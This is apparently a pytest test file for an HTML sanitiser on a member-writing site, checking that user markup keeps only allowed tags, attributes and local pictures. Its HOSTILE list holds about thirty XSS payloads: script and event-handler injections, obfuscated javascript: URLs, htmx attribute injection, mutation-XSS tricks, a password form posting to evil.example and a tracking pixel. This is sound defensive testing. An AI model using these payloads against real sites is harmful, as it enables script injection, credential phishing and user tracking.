"""What members write can hold no script, no htmx, no foreign picture."""

import re
from html.parser import HTMLParser

import pytest

from showcase import sanitise

PICTURE = "/pictures/abcdefgh23.webp"

HOSTILE = [
    "<script>alert(1)</script>",
    "<p onclick=alert(1)>a</p>",
    '<img src=x onerror="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="  java\nscript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="vbscript:x">a</a>',
    '<p hx-get="/studio/" hx-trigger="load">a</p>',
    '<p data-hx-post="/c/x/1/" data-hx-trigger="load">a</p>',
    '<div hx-on:click="alert(1)">a</div>',
    '<p style="position:fixed;inset:0">a</p>',
    '<p id="main" class="btn btn-primary" name="cookie">a</p>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<img src="https://evil.example/track.gif">',
    '<img src="//evil.example/pictures/abcdefgh23.webp">',
    '<img src="/pictures/../accounts/logout/">',
    f'<img src="{PICTURE}" srcset="https://evil.example/x 2x" onload=alert(1)>',
    '<pre class="prompt joinbar" data-open="x">a</pre>',
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    '<object data="x"></object><embed src="x"><link rel=stylesheet href=x>',
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
    '<details open ontoggle="alert(1)">a</details>',
    '<video><source onerror="alert(1)"></video>',
    '<button popovertarget="x" data-copy="p1">a</button>',
]
ALLOWED_ATTRIBUTES = {"href", "rel", "src", "alt", "width", "height", "class", "colspan", "rowspan", "start"}


class Reader(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_hostile_survives(hostile: str) -> None:
    for html in (hostile, f"<p>글</p>{hostile}", f"<table><tr><td>{hostile}</td></tr></table>"):
        for cleaned in (sanitise.clean(html), sanitise.clean(sanitise.clean(html)), sanitise.from_text(html)):
            reader = Reader()
            reader.feed(cleaned)
            for tag, attributes in reader.seen:
                assert tag in sanitise.TAGS
                assert set(attributes) <= ALLOWED_ATTRIBUTES
                assert attributes.get("class") in (None, "prompt", "")
                assert not re.match(r"\s*(java|vb|data)", attributes.get("href") or "", re.IGNORECASE)
                assert tag != "img" or attributes["src"] == PICTURE


def test_what_the_editor_makes_is_kept() -> None:
    html = (
        "<h2>먼저</h2><p>여섯 장씩 <strong>까만 종이</strong> 위에 <em>놓고</em> <code>x</code></p>"
        '<ul><li><p>하나</p></li></ul><ol start="3"><li><p>셋</p></li></ol><blockquote><p>말</p></blockquote><hr>'
        '<pre class="prompt">사진에 <mark>영수증</mark>이\n있어요</pre><pre><code>print(1)</code></pre>'
        '<table><tbody><tr><th colspan="2"><p>하던 일</p></th></tr></tbody></table>'
        f'<figure><img src="{PICTURE}" alt="영수증 &quot;여섯&quot; 장 &gt; 하나" width="800" height="600">'
        "<figcaption>어느 날</figcaption></figure>"
    )
    assert sanitise.clean(html) == html


def test_links_carry_no_standing_of_ours() -> None:
    assert 'rel="ugc nofollow noopener"' in sanitise.clean('<p><a href="https://example.com/a" rel="me">a</a></p>')


def test_plain_text_becomes_paragraphs() -> None:
    assert sanitise.from_text("첫 줄\r\n둘째 <b>줄</b>\r\n\r\n 새 문단 ") == (
        "<p>첫 줄<br>둘째 &lt;b&gt;줄&lt;/b&gt;</p><p>새 문단</p>"
    )
    assert sanitise.from_text("<p>이미 글</p>") == "<p>이미 글</p>"
    assert sanitise.from_text("  ") == ""


def test_words_stay_escaped() -> None:
    assert sanitise.words("<p>a &lt;script&gt;</p><p>b</p>") == "a &lt;script&gt; b"


def test_pictures_found() -> None:
    assert sanitise.pictures_in(sanitise.figure("abcdefgh23", '"', 1, 2)) == {"abcdefgh23"}
    assert sanitise.clean("<figure><img src='https://x.example/a.png'><figcaption></figcaption></figure>") == ""
